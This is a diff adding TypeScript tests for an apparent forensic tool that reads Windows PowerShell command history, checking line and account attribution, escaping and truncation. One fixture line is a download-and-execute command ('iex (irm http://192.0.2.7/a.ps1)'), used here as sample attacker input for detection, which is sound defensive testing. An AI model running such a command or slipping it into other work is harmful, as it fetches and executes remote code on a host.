@@ -315,6 +315,52 @@ describe('no way in', () => {
   });
 });
 
+describe('what was typed into PowerShell', () => {
+  const file = 'AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt';
+  const typed = async (text: string | Uint8Array): Promise<Told> =>
+    look({ files: { [`Users/Administrator/${file}`]: text } }, {});
+
+  test('is told with its line and account, and no time that is certain', async () => {
+    const { events, result } = await typed(
+      'whoami\r\nforeach ($x in 1) {`\r\n  $x }\r\niex (irm http://192.0.2.7/a.ps1)\r\n',
+    );
+    expect(
+      events.map((event) => (event.what === 'command' ? `${event.source.line} ${event.command}` : '')),
+    ).toEqual(['1 whoami', '2 foreach ($x in 1) {%0A  $x }', '4 iex (irm http://192.0.2.7/a.ps1)']);
+    expect(events[2]).toMatchObject({
+      what: 'command',
+      origin: 'history',
+      account: 'Administrator',
+      certain: false,
+      source: { source: `C:\\Users\\${`Administrator/${file}`.replaceAll('/', '\\')}` },
+    });
+    expect(result.sources).toContainEqual(
+      expect.objectContaining({ artifact: 'windows.powershell-history', status: 'ok' }),
+    );
+  });
+
+  test('of an honest administrator leaves the host clean', async () => {
+    const { result, events } = await typed('Get-Service W3SVC\nRestart-Service W3SVC\n升级\n');
+    expect(events).toHaveLength(3);
+    expect(result.verdict).toBe('clean');
+    expect(result.coverage.find(({ id }) => id === 'windows-logs')).toMatchObject({ checked: false });
+  });
+
+  test('is escaped and bounded whatever stands there', async () => {
+    const { events } = await typed(
+      Buffer.from(`\x1b[2J\x00\n${'`\n'.repeat(5_000)}${'a'.repeat(100_000)}\n`),
+    );
+    expect(events).toHaveLength(2);
+    expect(String(events[0]?.text)).toBe('%1B[2J%00');
+    expect(events.every(({ text }) => text.length <= 3 * 8_192)).toBe(true);
+    const huge = await typed(Buffer.alloc(17 << 20, 'whoami\n'));
+    expect(huge.events).toEqual([]);
+    expect(huge.result.sources).toContainEqual(
+      expect.objectContaining({ artifact: 'windows.powershell-history', status: 'truncated' }),
+    );
+  });
+});
+
 describe('events', () => {
   const event = (eventId: number, provider: string, data: GivenEvent['data']): GivenEvent => ({
     provider,
